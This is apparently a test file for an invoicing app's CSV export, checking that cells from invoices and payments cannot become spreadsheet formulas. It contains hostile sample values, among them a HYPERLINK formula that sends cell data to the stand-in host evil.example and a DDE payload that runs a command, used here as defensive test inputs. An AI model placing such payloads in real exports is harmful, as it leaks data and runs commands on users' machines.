import fc from "fast-check";
import { expect, test } from "vitest";
import { INVOICE_CSV_HEADER, invoiceCsvRow } from "@/features/invoices/csv";
import {
  PAYMENT_CSV_HEADER,
  paymentCsvRow,
  SETTLED_INVOICE_CSV_HEADER,
  type SettledInvoice,
  settledInvoiceCsvRow,
} from "@/features/payments/csv";
import { csvLine } from "@/lib/csv";

/** A line of a CSV file as a spreadsheet reads it (RFC 4180). */
function cellsOf(line: string): string[] {
  const cells: string[] = [];
  let cell = "";
  let quoted = false;
  for (let at = 0; at < line.length - 2; at++) {
    const sign = line.charAt(at);
    if (sign === '"' && quoted && line.charAt(at + 1) === '"') cell += line.charAt(++at);
    else if (sign === '"') quoted = !quoted;
    else if (sign === "," && !quoted) cells.push(cell);
    else cell += sign;
    if (sign === "," && !quoted) cell = "";
  }
  return [...cells, cell];
}

/** What Excel, LibreOffice and Google Sheets take for a formula, after what they may leave out before it. */
const isFormula = (cell: string) => /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u.test(cell) || /^[\t\r\n]/.test(cell);

const FIRST = [
  "=",
  "+",
  "-",
  "@",
  "\t",
  "\r",
  "\n",
  "＝",
  "＋",
  "－",
  "＠",
  " =",
  "\u00A0=",
  "\u200B=",
  "\uFEFF@",
  "\v=",
  "\0=",
  "'",
  '"',
  ",",
  ";",
];
const hostile = fc.tuple(fc.constantFrom(...FIRST), fc.string({ unit: "binary" })).map(([first, rest]) => first + rest);

test("no text becomes a formula, and every text comes back as it was but for the apostrophe", () => {
  fc.assert(
    fc.property(fc.array(fc.oneof(hostile, fc.string({ unit: "binary" })), { minLength: 1, maxLength: 8 }), (texts) => {
      const cells = cellsOf(csvLine(texts));
      expect(cells).toHaveLength(texts.length);
      for (const [index, cell] of cells.entries()) {
        expect(isFormula(cell)).toBe(false);
        expect([texts[index], `'${texts[index]}`]).toContain(cell);
      }
    }),
    { numRuns: 500 },
  );
});

const BOMB = '=HYPERLINK("http://evil.example/?"&A1,"Details")';

test("an export of invoices whose every text was written by a hostile party has no formula", () => {
  const row = invoiceCsvRow({
    id: "0193f0c8-0000-7000-8000-000000000001",
    side: "payable",
    objectId: BOMB,
    supplierInvoiceNumber: "=1+1",
    counterparty: { b2bId: "@SUM(A1)", name: "+cmd|' /C calc'!A0" },
    description: BOMB,
    issueDate: "2026-11-01",
    dueDate: "2026-12-01",
    totalPaise: 100,
    paidPaise: 0,
    pendingPaise: 0,
    duePaise: 100,
    status: "RETURNED",
    remarks: "=2+3",
    overdue: false,
    daysOverdue: 0,
    version: 1,
    origin: "COUNTERPARTY",
    editable: false,
    cancellable: false,
    answerable: false,
    createdBy: "-2+3",
    createdAt: "2026-11-01T00:00:00.000Z",
    updatedAt: "2026-11-01T00:00:00.000Z",
  });
  const cells = cellsOf(csvLine(row));
  expect(cells).toHaveLength(INVOICE_CSV_HEADER.length);
  expect(cells.filter(isFormula)).toEqual([]);
  expect(cells).toContain(`'${BOMB}`);
});

const SPOILT_PAYMENT = {
  objectId: "=PMT",
  side: "incoming",
  counterparty: { b2bId: "@SUM(A1)", name: BOMB },
  type: "OFFPLATFORM",
  mode: "NEFT",
  utr: "=1+1",
  paidAt: "2026-11-01T00:00:00.000Z",
  netPaise: 1,
  adjustmentPaise: 0,
  totalPaise: 1,
  status: "ACCEPTED",
  statusWords: "=words",
  invoiceCount: 2,
  invoiceNumbers: ["=2+2"],
  supplierResponse: "ACCEPT",
  supplierRemarks: "+1",
  respondedBy: "-1",
  respondedAt: "2026-11-01T00:00:00.000Z",
  failure: null,
  createdBy: "\t=1",
  createdAt: "2026-11-01T00:00:00.000Z",
  updatedAt: "2026-11-01T00:00:00.000Z",
} as unknown as SettledInvoice["payment"];

test("nor has an export of payments", () => {
  const cells = cellsOf(csvLine(paymentCsvRow(SPOILT_PAYMENT)));
  expect(cells).toHaveLength(PAYMENT_CSV_HEADER.length);
  expect(cells.filter(isFormula)).toEqual([]);
});

test("nor one of the invoices that they settle", () => {
  const splits = [
    { name: "TDS", refNo: "=194Q", valuePaise: 1 },
    { name: "+DISCOUNT", refNo: "@1", valuePaise: 2 },
  ];
  const line = {
    invoiceId: "=1",
    supplierInvoiceNumber: "=2+2",
    issueDate: "2026-11-01",
    dueDate: "2026-12-01",
    netPaise: 1,
    adjustmentPaise: 3,
    totalPaise: 4,
    invoiceTotalPaise: 4,
    invoiceDuePaise: 4,
    invoiceStatusNow: "PAID",
    splits,
  } as SettledInvoice["line"];
  const cells = cellsOf(csvLine(settledInvoiceCsvRow({ payment: SPOILT_PAYMENT, line, gstin: "=1+1" })));
  expect(cells).toHaveLength(SETTLED_INVOICE_CSV_HEADER.length);
  expect(cells.filter(isFormula)).toEqual([]);
});
